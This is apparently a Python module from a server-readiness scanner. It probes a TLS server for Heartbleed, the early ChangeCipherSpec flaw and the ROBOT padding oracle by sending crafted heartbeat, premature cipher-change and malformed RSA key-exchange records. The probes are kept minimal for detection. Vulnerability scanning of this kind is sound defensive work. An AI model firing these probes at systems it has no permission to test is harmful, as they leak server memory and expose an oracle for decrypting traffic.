"""Whether a server falls for attacks that are known by name; each is tried far enough to see, and no further."""

from __future__ import annotations

import asyncio
import secrets
from collections.abc import Callable, Iterator, Mapping
from typing import Any

from prodworthy.probes.http import Http
from prodworthy.probes.tls import Place, greet
from prodworthy.probes.tls_hello import (
    ALERT,
    CHANGE_CIPHER_SPEC,
    HANDSHAKE,
    HEARTBEAT,
    HEARTBEAT_EXTENSION,
    Hello,
    Reply,
    record,
    records,
)
from prodworthy.rules.cipher_suites import MODERN, STATIC_RSA, WEAK
from prodworthy.rules.tls import TLS_1_3, Scan

ATTACK_HANDSHAKES = 12
"""About how many connections it takes where static RSA is accepted; two where it is not."""
_LEAKED = 16  # bytes that a vulnerable server is asked for: enough to see, nothing is kept
_DECRYPTING = frozenset({20, 51})  # bad_record_mac, decrypt_error: it has begun to decrypt, with keys of no secret
_MODULUS_LEAST = 64


async def attack_tls(http: Http, scan: Scan, host: str, port: int) -> dict[str, str]:
    """Try Heartbleed, early ChangeCipherSpec and Bleichenbacher's oracle on the address that was scanned.

    Returns:
        For each attack what showed that it works; empty where it does not.

    Raises:
        TargetFailed: if no connection can be made.
    """
    older = [version for version in scan.versions if version < TLS_1_3]
    found = {"Heartbleed": "", "early ChangeCipherSpec": "", "ROBOT": ""}
    if not older:
        return found  # all of them need what TLS 1.3 has left out
    place, version = Place.at(http, host, port, scan.address), max(older)
    usual = Hello(version, [*MODERN, *(code for kind in WEAK.values() for code in kind)], host)
    found["Heartbleed"] = await _heartbleed(http, place, usual)
    found["early ChangeCipherSpec"] = await _early_change(http, place, usual)
    if scan.weak and set(scan.weak.values()) & set(STATIC_RSA.values()):
        found["ROBOT"] = await _robot(http, place, version)
    return found


async def _heartbleed(http: Http, place: Place, usual: Hello) -> str:
    """CVE-2014-0160: ask for more bytes back than were sent."""
    hello = Hello(usual.version, usual.suites, usual.name, extensions={HEARTBEAT_EXTENSION: b"\x01"})

    def request(reply: Reply) -> Iterator[bytes]:
        if HEARTBEAT_EXTENSION in reply.extensions:
            yield record(HEARTBEAT, b"\x01" + _LEAKED.to_bytes(2, "big"), usual.version)

    _, answers = await greet(http, place, hello, request)
    leaked = [body for data in answers for kind, body in _records(data) if kind == HEARTBEAT]
    return f"{_LEAKED} bytes of its memory came back for none that were sent" if leaked else ""


async def _early_change(http: Http, place: Place, usual: Hello) -> str:
    """CVE-2014-0224: switch to encryption before there is a secret; a sound server ends the connection at once."""
    change = record(CHANGE_CIPHER_SPEC, b"\x01", usual.version)
    reply, answers = await greet(http, place, usual, lambda said: [change, change] if said.complete else [])
    if reply.version is None or len(answers) < 2 or answers[0]:  # noqa: PLR2004 - both were sent
        return ""
    alerts = {body[1] for kind, body in _records(answers[1]) if kind == ALERT and len(body) == 2}  # noqa: PLR2004
    return "it began to decrypt before a secret was agreed on" if alerts & _DECRYPTING else ""


async def _robot(http: Http, place: Place, version: int) -> str:
    """See whether it answers differently to differently padded secrets (robotattack.org); twice, to rule out chance."""
    rounds = [await _padded(http, place, version) for _ in range(2)]
    if len(set(rounds[0].values())) > 1 and rounds[0] == rounds[1]:
        told = ", ".join(f"{name}: {answer}" for name, answer in rounds[0].items())
        return f"it tells how a secret is padded ({told})"
    return ""


async def _padded(http: Http, place: Place, version: int) -> Mapping[str, str]:
    answers: dict[str, str] = {}
    for name, make in _PADDINGS.items():
        hello = Hello(version, list(STATIC_RSA), place.host)

        def key_exchange(reply: Reply, make: Callable[[int], bytes] = make) -> Iterator[bytes]:
            if reply.certificates and reply.suite in STATIC_RSA:
                yield _key_exchange(reply.certificates[0], version, make)

        reply, said = await greet(http, place, hello, key_exchange)
        answers[name] = "; ".join(f"{kind}/{body[-1:].hex()}" for kind, body in _records(b"".join(said))) or "silence"
        if reply.version is None:
            answers[name] = "refused"
        await asyncio.sleep(0)
    return answers


def _key_exchange(certificate: bytes, version: int, make: Callable[[int], bytes]) -> bytes:
    """Return the client's last messages, with a secret padded in a certain way and a finish that means nothing."""
    from cryptography import x509  # noqa: PLC0415 - takes long to load

    numbers: Any = x509.load_der_x509_certificate(certificate).public_key()
    public = numbers.public_numbers()
    size = max((public.n.bit_length() + 7) // 8, _MODULUS_LEAST)
    secret = pow(int.from_bytes(make(size), "big"), public.e, public.n).to_bytes(size, "big")
    body = len(secret).to_bytes(2, "big") + secret
    return (
        record(HANDSHAKE, b"\x10" + len(body).to_bytes(3, "big") + body, version)
        + record(CHANGE_CIPHER_SPEC, b"\x01", version)
        + record(HANDSHAKE, secrets.token_bytes(64), version)
    )


def _padding(begin: bytes, size: int, secret: bytes) -> bytes:
    filling = size - len(begin) - len(secret)
    return begin + bytes(1 + byte % 255 for byte in secrets.token_bytes(filling)) + secret


_SECRET = b"\x03\x03" + b"\x55" * 46
_PADDINGS: Mapping[str, Callable[[int], bytes]] = {
    "as it should be": lambda size: _padding(b"\x00\x02", size, b"\x00" + _SECRET),
    "wrong beginning": lambda size: _padding(b"\x41\x17", size, b"\x00" + _SECRET),
    "no end": lambda size: _padding(b"\x00\x02", size, b"\x11" + _SECRET),
    "early end": lambda size: _padding(b"\x00\x02", size, b"\x00" + _SECRET[:1]),
    "wrong version": lambda size: _padding(b"\x00\x02", size, b"\x00\x02\x02" + _SECRET[2:]),
}


def _records(data: bytes) -> list[tuple[int, bytes]]:
    try:
        return list(records(data))
    except ValueError:
        return []
